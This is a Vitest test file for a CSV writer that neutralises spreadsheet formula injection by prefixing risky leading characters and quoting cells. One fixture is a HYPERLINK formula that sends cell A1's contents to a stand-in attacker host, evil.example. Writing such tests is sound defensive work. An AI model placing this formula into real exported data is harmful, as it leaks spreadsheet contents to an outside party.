import { describe, expect, it } from "vitest";
import { writeCsv } from "./csv.js";

describe("writeCsv", () => {
  it.each([
    ["=", '=HYPERLINK("http://evil.example/?d="&A1,"Open")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`],
    ["+", "+91 98450 12345", "'+91 98450 12345"],
    ["-", "-2+3", "'-2+3"],
    ["@", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["a tab", "\t=1", "'\t=1"],
    ["a carriage return", "\r=1", `"'\r=1"`],
    ["a full-width =", "＝1+1", "'＝1+1"],
  ])("neutralises a cell that starts with %s", (_start, cell, written) => {
    expect(writeCsv([[cell]])).toBe(`${written}\n`);
  });

  it("leaves ordinary text, numbers and empty cells as they are", () => {
    expect(
      writeCsv([
        ["Mandya", "a=b", 0, 1500, null, undefined, "1500.00"],
        ["Bengaluru, Urban", 'say "hi"', "", "x-y", "user@example", "#adm1", "IN-KA"],
      ]),
    ).toBe('Mandya,a=b,0,1500,,,1500.00\n"Bengaluru, Urban","say ""hi""",,x-y,user@example,#adm1,IN-KA\n');
  });
});
